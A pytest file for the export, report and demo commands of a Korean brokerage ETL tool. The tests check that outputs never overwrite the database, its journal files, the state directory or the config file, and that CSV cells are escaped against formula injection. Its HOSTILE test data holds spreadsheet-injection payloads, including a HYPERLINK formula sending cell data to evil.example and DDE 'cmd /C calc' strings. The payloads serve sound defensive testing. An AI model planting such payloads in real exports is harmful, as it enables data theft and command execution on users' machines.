"""Outputs never destroy anything: every file-writing command (export in each format, report, the demo's report)
refuses the database, its -wal/-shm/-journal files and the state directory, --force or not, however the path is
spelled; replaces an existing file only with --force, whole or not at all; makes a missing folder 0700. CSV text
cells a spreadsheet would run as formulas get a ' (OWASP), numbers stay numbers, and --raw-text keeps them as
stored."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner, Result
from sqlalchemy import Engine, text

from etl.cli import cli
from etl.clock import KST
from etl.jobs.replay import import_pages
from etl.store.engine import make_engine
from tests.support import Clock
from tests.support.answers import summary_page
from tests.support.books import Book
from tests.support.books import Line as BookLine
from tests.support.schema import migrated
from tests.support.story import ACCOUNT, at, ledger_line, load

HOSTILE = {
    '=HYPERLINK("https://evil.example/?q="&A1,"공지")': '\'=HYPERLINK("https://evil.example/?q="&A1,"공지")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "삼성=전자": "삼성=전자",  # a formula sign inside the text is no formula
    "x\r2026-11-20,forged,row": "x\r2026-11-20,forged,row",  # a carriage return, quoted: no forged row
}
CELLS = {**HOSTILE, "": "", "-": "'-", "x-1": "x-1"}
D2 = date(2026, 11, 3)

# Each command that writes a file: the words before the target's option, and that option.
Writer = Callable[[Path], list[str]]
WRITERS: dict[str, Writer] = {
    "export csv": lambda out: ["export", "etl_runs", "--out", str(out)],
    "export parquet": lambda out: ["export", "etl_runs", "--format", "parquet", "--out", str(out)],
    "export portfolio-performance": lambda out: [
        "export",
        "account_transactions",
        "--format",
        "portfolio-performance",
        "--out",
        str(out),
    ],
    "export ghostfolio": lambda out: ["export", "account_transactions", "--format", "ghostfolio", "--out", str(out)],
    "report": lambda out: ["report", "--out", str(out)],
    "demo": lambda out: ["demo", "--days", "3", "--report", str(out)],
}


class Place:
    """A migrated SQLite database and a state directory holding a token cache and a spooled snapshot."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.database = root / "kiwoom_etl.db"
        self.url = f"sqlite:///{self.database}"
        self.state = root / "state"
        self.token = self.state / "tokens" / "one.json"
        self.spooled = self.state / "spool" / "20261120T063000Z-a1-KRX.json"
        for path, data in ((self.token, b'{"token": "t"}'), (self.spooled, b'{"format": 1}')):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        engine = make_engine(self.url)
        try:
            migrated(engine)
        finally:
            engine.dispose()
        self.env = {"KIWOOM_ETL_DATABASE_URL": self.url, "KIWOOM_ETL_STATE_DIR": str(self.state)}

    def run(self, words: list[str], *more: str) -> Result:
        """kiwoom-etl WORDS MORE in this place; the demo writes into this database too."""
        if words[0] == "demo":
            more = (*more, "--database-url", self.url)
        return CliRunner().invoke(cli, [*words, *more], env=self.env)

    def kept(self) -> dict[Path, bytes]:
        """Every protected file's bytes."""
        return {path: path.read_bytes() for path in (self.database, self.token, self.spooled)}


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Place]:
    monkeypatch.chdir(tmp_path)  # the relative spellings are relative to here
    yield Place(tmp_path)


def _refused(result: Result, why: str) -> None:
    assert result.exit_code == 2, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("kiwoom-etl: error: --") and why in lines[0], result.stderr
    assert "Traceback" not in result.output


# (how the target is spelled, from the place; what the refusal says)
PROTECTED: dict[str, tuple[Callable[[Place], Path], str]] = {
    "database": (lambda p: p.database, "is the database itself; choose another file"),
    "database, relative": (lambda p: Path("kiwoom_etl.db"), "is the database itself"),
    "database, ./ and ..": (lambda p: Path("./state/../kiwoom_etl.db"), "is the database itself"),
    "-wal": (lambda p: p.root / "kiwoom_etl.db-wal", "is the database's write-ahead log"),
    "-shm": (lambda p: Path("kiwoom_etl.db-shm"), "is the database's shared-memory index"),
    "-journal": (lambda p: p.root / "kiwoom_etl.db-journal", "is the database's rollback journal"),
    "a file in the state directory": (lambda p: p.token, "is inside the state directory"),
    "a new file in the state directory": (lambda p: p.state / "report.html", "is inside the state directory"),
    "a spooled file": (lambda p: p.spooled, "is inside the state directory"),
    "a spooled file, relative": (lambda p: Path("state/spool") / p.spooled.name, "is inside the state directory"),
}


def _symlink(place: Place, to: Path) -> Path:
    link = place.root / "innocent.csv"
    link.symlink_to(to)
    return link


def _hard_link(place: Place, to: Path) -> Path:
    link = place.root / "innocent.csv"
    os.link(to, link)
    return link


LINKED: dict[str, tuple[Callable[[Place], Path], str]] = {
    "a symlink to the database": (lambda p: _symlink(p, p.database), "is the database itself"),
    "a relative symlink to the -wal": (lambda p: _symlink(p, Path("kiwoom_etl.db-wal")), "write-ahead log"),
    "a symlink to a spooled file": (lambda p: _symlink(p, p.spooled), "is inside the state directory"),
    "a hard link to the database": (lambda p: _hard_link(p, p.database), "is the database itself"),
    "a hard link to a spooled file": (lambda p: _hard_link(p, p.spooled), "is a hard link to"),
}


@pytest.mark.parametrize("force", [False, True], ids=["", "--force"])
@pytest.mark.parametrize("target", [*PROTECTED, *LINKED])
def test_no_command_writes_over_the_database_or_the_state_directory_force_or_not(
    place: Place, target: str, force: bool
) -> None:
    spell, why = {**PROTECTED, **LINKED}[target]
    path = spell(place)
    kept = place.kept()
    for name, words in WRITERS.items():
        result = place.run(words(path), *(["--force"] if force else []))
        _refused(result, why)
        assert place.kept() == kept, name  # byte for byte
    assert not [suffix for suffix in ("-wal", "-shm", "-journal") if (place.root / f"kiwoom_etl.db{suffix}").exists()]
    state_files = sorted(p.name for p in place.state.rglob("*") if p.is_file())
    assert state_files == sorted([place.token.name, place.spooled.name])


def test_the_configured_database_stays_protected_when_database_url_names_another(place: Place) -> None:
    other = f"sqlite:///{place.root / 'scratch.db'}"
    assert CliRunner().invoke(cli, ["migrate", "--database-url", other], env=place.env).exit_code == 0
    kept = place.kept()
    for name, words in WRITERS.items():
        argv = [*words(place.database), "--database-url", other, "--force"]
        _refused(CliRunner().invoke(cli, argv, env=place.env), "is the database itself")
        assert place.kept() == kept, name


def test_a_database_reached_through_a_symlink_keeps_the_files_beside_the_link_and_beside_the_file(
    place: Place,
) -> None:
    link = place.root / "link.db"
    link.symlink_to(place.database)
    env = {**place.env, "KIWOOM_ETL_DATABASE_URL": f"sqlite:///{link}"}
    kept = place.kept()
    for target in (link, place.root / "link.db-wal", place.database, place.root / "kiwoom_etl.db-journal"):
        for name, words in WRITERS.items():
            argv = [*words(target), "--force", *(["--database-url", f"sqlite:///{link}"] if name == "demo" else [])]
            _refused(CliRunner().invoke(cli, argv, env=env), "the database")
            assert place.kept() == kept, (name, target)


@pytest.mark.parametrize("force", [False, True], ids=["", "--force"])
def test_a_pipe_or_a_device_is_not_renamed_over(place: Place, force: bool) -> None:
    """/dev/null or a FIFO named as --out would be replaced by a regular file: refused (stdout is without --out)."""
    fifo = place.root / "fifo"
    os.mkfifo(fifo)
    for name, words in WRITERS.items():
        _refused(place.run(words(fifo), *(["--force"] if force else [])), "is not a regular file")
        assert stat.S_ISFIFO(fifo.lstat().st_mode), name


def test_portfolio_performance_refuses_its_deliveries_sibling_too(place: Place) -> None:
    """Its transfers of securities go to FILE-deliveries.csv: an existing one is refused, and so nothing is written."""
    sibling = place.root / "kiwoom-deliveries.csv"
    sibling.write_text("mine")
    result = place.run(WRITERS["export portfolio-performance"](place.root / "kiwoom.csv"))
    _refused(result, f"--out's sibling {sibling} exists; add --force to replace it")
    assert sibling.read_text() == "mine" and not (place.root / "kiwoom.csv").exists()


@pytest.mark.parametrize("name", list(WRITERS))
def test_an_existing_file_is_refused_without_force_and_replaced_with_it_keeping_its_mode(
    place: Place, name: str
) -> None:
    target = place.root / "out" / "mine.txt"
    target.parent.mkdir()
    target.write_text("my own notes")
    target.chmod(0o644)
    result = place.run(WRITERS[name](target))
    _refused(result, f"{target} exists; add --force to replace it")
    assert target.read_text() == "my own notes"
    replaced = place.run(WRITERS[name](target), "--force")
    assert replaced.exit_code == 0, replaced.output
    assert target.read_bytes() != b"my own notes" and target.stat().st_size > 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o644  # the mode its owner gave it
    assert sorted(p.name for p in target.parent.iterdir()) == ["mine.txt"]  # no temporary file left


def test_report_replaces_an_earlier_report_without_force_as_the_demo_does(place: Place) -> None:
    """`kiwoom-etl report` run again (the default file of yesterday's run) writes over its own page; a file that is
    not a kiwoom-etl report is still refused above."""
    target = place.root / "kiwoom-etl-report.html"
    first = place.run(WRITERS["report"](target))
    assert first.exit_code == 0, first.output
    target.write_bytes(target.read_bytes().replace(b"</body>", b"<!-- yesterday --></body>"))
    again = place.run(WRITERS["report"](target))
    assert again.exit_code == 0, again.output
    assert b"<!-- yesterday -->" not in target.read_bytes()


def test_a_missing_folder_is_made_0700_by_every_command_and_a_new_file_is_0600(place: Place) -> None:
    os.umask(0o022)
    for name, words in WRITERS.items():
        folder = place.root / name.replace(" ", "-")
        target = folder / "deeper" / "out.file"
        result = place.run(words(target))
        assert result.exit_code == 0, (name, result.output)
        modes = [stat.S_IMODE(p.stat().st_mode) for p in (folder, folder / "deeper", target)]
        assert modes == [0o700, 0o700, 0o600], name


def test_an_out_under_a_file_says_that_file_is_not_a_folder_in_one_line(place: Place) -> None:
    # --out report.html/out.file, report.html a file: the error named it "File exists", which says nothing of why.
    blocker = place.root / "report.html"
    blocker.write_text("kept", encoding="utf-8")
    for name, words in WRITERS.items():
        result = place.run(words(blocker / "out.file"))
        assert result.exit_code == 1, (name, result.output)
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and "Traceback" not in result.output, (name, result.stderr)
        assert f"{blocker} is a file, not a folder" in lines[0], (name, lines[0])
    assert blocker.read_text(encoding="utf-8") == "kept"


def test_help_of_each_writer_names_force() -> None:
    for command in ("export", "report", "demo"):
        result = CliRunner().invoke(cli, [command, "--help"])
        assert result.exit_code == 0 and "--force" in result.output, command
    assert "--raw-text" in CliRunner().invoke(cli, ["export", "--help"]).output


def _hostile_positions(engine: Engine, tmp_path: Path) -> None:
    """One KRX snapshot of positions named as an attacker would, one at a loss (a negative rate)."""
    when = datetime(2026, 11, 20, 15, 30, tzinfo=KST)
    lines = [(f"00{n:04d}", name, 1, 1000, "-43.8977") for n, name in enumerate(HOSTILE)]
    path = tmp_path / "page.json"
    path.write_text(json.dumps(summary_page(-5000, "-1.5", lines), ensure_ascii=False), encoding="utf-8")
    loaded = import_pages(
        engine, [path], account_no="a1", exchange="KRX", captured_at=when, clock=Clock(when.astimezone(UTC))
    )
    assert loaded == "loaded"


def _cells(result: Result) -> list[dict[str, str]]:
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout, newline="")))


def test_csv_text_cells_that_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers(place: Place) -> None:
    engine = make_engine(place.url)
    try:
        _hostile_positions(engine, place.root)
    finally:
        engine.dispose()
    safe = _cells(place.run(["export", "position_snapshots"]))
    assert {row["stock_name"] for row in safe} == set(HOSTILE.values())
    assert {row["profit_loss_rate"] for row in safe} == {"-43.8977"}  # a number: no quote, however it starts
    raw = _cells(place.run(["export", "position_snapshots", "--raw-text"]))
    assert {row["stock_name"] for row in raw} == set(HOSTILE)
    accounts = _cells(place.run(["export", "account_snapshots"]))
    assert [row["deposit_d2"] for row in accounts] == ["-5000"]  # a negative amount stays a number
    out = place.root / "positions.parquet"
    assert place.run(["export", "position_snapshots", "--format", "parquet", "--out", str(out)]).exit_code == 0
    assert set(pq.read_table(out).column("stock_name").to_pylist()) == set(HOSTILE)  # Parquet is no spreadsheet


def test_portfolio_performance_text_cells_get_a_quote_and_ghostfolio_keeps_them(place: Place) -> None:
    engine = make_engine(place.url)
    try:
        books = [Book(ACCOUNT, "KRX", at(D2), (BookLine("000660", "SK하이닉스", 2, 150_000, 140_000),), deposit_d2=0)]
        hostile = list(HOSTILE)
        # A kind is found by a keyword anywhere in the remark: these lines are deposits and dividends to the tools.
        lines = [
            ledger_line(D2, n, f"{words}{kind}", 1_000 * n, stk_cd="A005930", stk_nm=hostile[-n], trde_qty_jwa_cnt="1")
            for n, words in enumerate(hostile[:4], start=1)
            for kind in ("이체입금" if n % 2 else "배당금입금",)
        ]
        load(engine, place.root, books, lines)
        with engine.connect() as connection:
            remarks = set(connection.execute(text("SELECT remark FROM account_transactions")).scalars())
        assert all(remark.startswith(tuple(hostile[:4])) for remark in remarks) and len(remarks) == 4
    finally:
        engine.dispose()
    words = WRITERS["export portfolio-performance"](place.root / "pp.csv")
    assert place.run(words).exit_code == 0
    safe = list(csv.DictReader(io.StringIO((place.root / "pp.csv").read_text(encoding="utf-8"), newline="")))
    assert place.run(words, "--force", "--raw-text").exit_code == 0
    raw = list(csv.DictReader(io.StringIO((place.root / "pp.csv").read_text(encoding="utf-8"), newline="")))
    assert len(safe) == len(raw) >= 1
    for quoted, literal in zip(safe, raw, strict=True):
        for column in ("Note", "Security Name"):
            assert quoted[column] == _quoted(literal[column]), column
        for column in ("Value", "Shares", "Fees", "Taxes", "Date"):
            assert quoted[column] == literal[column]
    assert any(row["Note"].startswith("'=HYPERLINK") for row in safe)
    assert any(row["Note"].startswith("=HYPERLINK") for row in raw)
    ghost = place.root / "gf.json"
    assert place.run(WRITERS["export ghostfolio"](ghost)).exit_code == 0
    strings = _strings(json.loads(ghost.read_text(encoding="utf-8")))
    assert any(s.startswith(tuple(HOSTILE)) for s in strings)  # JSON is no spreadsheet: the text as stored
    assert not [s for s in strings if s.startswith("'")]


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return [s for item in items for s in _strings(item)]


@pytest.mark.parametrize(("stored", "written"), CELLS.items())
def test_the_owasp_rule_on_one_cell(stored: str, written: str) -> None:
    from etl.read.export import spreadsheet_safe  # here: the module's other tests run on code without it

    assert spreadsheet_safe(stored) == written


def _quoted(cell: str) -> str:
    return f"'{cell}" if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def test_a_crash_while_writing_rows_leaves_the_old_file_whole(place: Place) -> None:
    """A value that cannot be written (text in an integer column) stops a forced export half way: the file it was
    to replace is still the old one, and no temporary file is left."""
    engine = make_engine(place.url)
    try:
        _hostile_positions(engine, place.root)
        with engine.begin() as connection:
            connection.execute(text("UPDATE position_snapshots SET quantity = 'boom' WHERE stock_code = '000003'"))
    finally:
        engine.dispose()
    for fmt in ("csv", "parquet"):
        target = place.root / "kept" / f"positions.{fmt}"
        target.parent.mkdir(exist_ok=True)
        target.write_bytes(b"the old file, whole")
        result = place.run(["export", "position_snapshots", "--format", fmt, "--out", str(target), "--force"])
        assert result.exit_code == 1 and "Traceback" not in result.output, result.output
        assert target.read_bytes() == b"the old file, whole"
        assert [p.name for p in target.parent.iterdir()] == [target.name]
        target.unlink()


def test_the_config_file_is_never_replaced_it_may_hold_the_keys(place: Place) -> None:
    config = place.root / "kiwoom-etl.toml"
    config.write_text('timezone = "Asia/Seoul"\n')
    config.chmod(0o600)
    link = place.root / "settings-link.toml"
    link.symlink_to(config)
    env = {**place.env, "KIWOOM_ETL_CONFIG": str(config)}
    for target in (config, Path("kiwoom-etl.toml"), link):
        for name, words in WRITERS.items():
            more = ["--database-url", place.url] if name == "demo" else []
            result = CliRunner().invoke(cli, [*words(target), "--force", *more], env=env)
            _refused(result, "is the config file")
            assert config.read_text() == 'timezone = "Asia/Seoul"\n', (name, target)


def test_the_written_line_shows_a_name_with_controls_as_escapes(place: Place) -> None:
    for name, words in WRITERS.items():
        if name == "demo":  # it names its report in the demo's own words
            continue
        target = place.root / f"{name.replace(' ', '-')}\x1b[2J\nDone.out"
        result = place.run(words(target))
        assert result.exit_code == 0, (name, result.output)
        assert target.exists() and "\x1b" not in result.stdout and "\nDone." not in result.stdout, name
        assert "\\x1b[2J\\nDone.out" in result.stdout, name


def test_out_dash_is_not_taken_for_a_file_named_dash(place: Place) -> None:
    for name, words in WRITERS.items():
        result = place.run(words(Path("-")))
        _refused(result, "name a file (- is not standard output here")
        assert not (place.root / "-").exists(), name
